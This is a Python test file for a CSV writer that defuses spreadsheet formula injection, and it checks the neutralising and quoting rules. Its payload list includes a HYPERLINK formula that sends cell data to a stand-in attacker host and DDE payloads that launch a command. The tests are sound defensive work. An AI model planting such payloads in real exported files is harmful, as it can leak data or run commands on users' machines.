"""CSV-injection-safe writer.

Source: OWASP Foundation, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells starting
with =, +, -, @, tab (0x09) or carriage return (0x0D) are prefixed with a single quote; every cell is
wrapped in double quotes and embedded double quotes are doubled. Read-back uses Python's csv module
(RFC 4180 quoting) as the reference parser.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from barometer_common.csvsafe import FORMULA_PREFIXES, neutralise_cell, write_safe_csv

# Payload shapes from the OWASP "CSV Injection" page (from memory), with invented targets.
OWASP_PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://attacker.invalid?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def test_prefix_list_is_the_owasp_list():
    # OWASP "CSV Injection": =, +, -, @, tab, carriage return.
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_payloads_are_prefixed(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    ["Pontoon B card reader", "", "'=already", " =space first", "3 berths", "a=b"],
)
def test_harmless_text_is_unchanged(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-3, "-3"),
        (-0.5, "-0.5"),
        (Decimal("-1.25"), "-1.25"),
        (7, "7"),
        (None, ""),
        (True, "True"),
    ],
)
def test_numbers_stay_numeric_strings_do_not(value, expected):
    # Our choice (documented in the module): numbers Barometer computed stay numbers; OWASP's rule
    # applies to text, so the *string* "-3" is prefixed.
    assert neutralise_cell(value) == expected
    assert neutralise_cell("-3") == "'-3"


def test_written_file_reads_back_neutralised_and_quoted():
    out = io.StringIO()
    header = ["key", "=title"]
    rows = [
        ["BRT-1", OWASP_PAYLOADS[1]],
        ["BRT-2", 'Quay "north", gate\nline two'],
        ["@BRT-3", -4],
    ]
    count = write_safe_csv(out, header, iter(rows))
    assert count == 3
    text = out.getvalue()
    # OWASP: every cell wrapped in double quotes, embedded quotes doubled; RFC 4180 CRLF records.
    assert text.startswith('"key","\'=title"\r\n')
    assert '"Quay ""north"", gate\nline two"' in text
    assert '"-4"' in text
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back[0] == ["key", "'=title"]
    assert back[1] == ["BRT-1", "'" + OWASP_PAYLOADS[1]]
    assert back[2] == ["BRT-2", 'Quay "north", gate\nline two']
    assert back[3] == ["'@BRT-3", "-4"]
    for row in back:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES) or cell == "-4"


def test_rows_are_not_modified():
    rows = [["=x", 1]]
    write_safe_csv(io.StringIO(), ["a", "b"], rows)
    assert rows == [["=x", 1]]
